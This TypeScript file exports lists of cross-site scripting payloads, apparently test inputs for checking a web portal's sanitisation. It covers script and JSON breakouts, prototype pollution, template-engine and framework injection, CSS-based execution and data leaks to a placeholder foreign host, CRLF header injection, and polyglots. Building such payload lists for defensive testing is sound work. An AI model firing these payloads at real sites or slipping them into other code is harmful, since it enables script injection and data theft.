import { FOREIGN_HOST, RUN } from "../hook.ts";

/** Payloads for JSON, for JavaScript and for the page's boot data. */
const SCRIPT_DATA = [
  `"}]}</script><script>${RUN}</script>`,
  `\\"}</script><svg/onload=${RUN}>`,
  `"-${RUN}-"`,
  `'-${RUN}-'`,
  `\\'-${RUN}//`,
  "`-${__xss()}-`",
  "${__xss()}",
  `\u2028${RUN}\u2029`,
  `</script/><!--<script>${RUN}`,
  `<!--<script>"</script><script>${RUN}</script>`,
  `{"__proto__":{"innerHTML":"<svg/onload=${RUN}>"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `{"$$typeof":"Symbol(react.transitional.element)","type":"script","props":{"children":"${RUN}"}}`,
  "__proto__",
  "constructor.prototype",
];

/** Templates of frameworks and template engines that the portal does not use. */
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$on.constructor('${RUN}')()}}`,
  `{{#with "s"}}{{lookup . "constructor"}}{{/with}}`,
  `{{{"<svg/onload=${RUN}>"}}}`,
  `<%= ${RUN} %>`,
  `<%- "<script>${RUN}</script>" %>`,
  `#{${RUN}}`,
  `*{${RUN}}`,
  `[[${RUN}]]`,
  `{% raw %}<script>${RUN}</script>{% endraw %}`,
  `@(${RUN})`,
  `<div ng-app ng-csp><p ng-focus="${RUN}" tabindex=1 autofocus>`,
  `<p v-html="'<img src=x onerror=${RUN}>'">`,
  `<p x-data x-init="${RUN}">`,
  `<p hx-get="//${FOREIGN_HOST}/" hx-trigger=load>`,
  `<p data-bind="html: '<script>${RUN}</script>'">`,
];

/** Style sheets that execute scripts, load resources or leak data. */
const STYLES = [
  `</style><script>${RUN}</script>`,
  `}</style><svg/onload=${RUN}>`,
  `<style>@import'//${FOREIGN_HOST}/a.css';</style>`,
  `<style>*{background:url(//${FOREIGN_HOST}/b.png)}</style>`,
  `<style>input[value^=a]{background:url(//${FOREIGN_HOST}/a)}</style>`,
  `<style>@font-face{font-family:x;src:url(//${FOREIGN_HOST}/f.woff)}*{font-family:x}</style>`,
  `<p style="background:url(//${FOREIGN_HOST}/p.png)">`,
  `<p style="background-image:url('javascript:${RUN}')">`,
  `<p style="width:expression(${RUN})">`,
  `<p style="behavior:url(//${FOREIGN_HOST}/x.htc)">`,
  `<p style="-moz-binding:url(//${FOREIGN_HOST}/x.xml#x)">`,
  String.raw`<p style="width:e\78 pression(${RUN})">`,
  "red;}*{display:none}",
  `#fff;background:url(//${FOREIGN_HOST}/c)`,
  `<style>@keyframes x{}</style><p style=animation-name:x onanimationend=${RUN}>`,
];

/** Polyglots, which are texts that are dangerous in many contexts. */
const POLYGLOTS = [
  `"'--></title></style></textarea></script><svg/onload=${RUN}>`,
  `javascript:/*--></title></style></textarea></script>'"/*\\'/*\\"/*--><svg/onload='/*<!--*/${RUN}//'>`,
  `';${RUN}//";${RUN}//\`;${RUN}//--></script>"><img src=x onerror=${RUN}>`,
  `{{7*7}}\${7*7}<%=7*7%>"><iframe srcdoc='<script>parent.${RUN}</script>'>`,
  `*/${RUN}/*"><svg><script>/*<!--*/${RUN}</script>]]>`,
  `%0d%0aContent-Type:text/html%0d%0a%0d%0a<script>${RUN}</script>`,
  `x" autofocus onfocus=${RUN} style='x:url(//${FOREIGN_HOST})' <!--`,
  `=HYPERLINK("http://${FOREIGN_HOST}","<img src=x onerror=${RUN}>")`,
];

/** Payloads for contexts other than HTML (script data, templates, style sheets), and polyglots. */
export const languages: readonly string[] = [...SCRIPT_DATA, ...TEMPLATES, ...STYLES, ...POLYGLOTS];
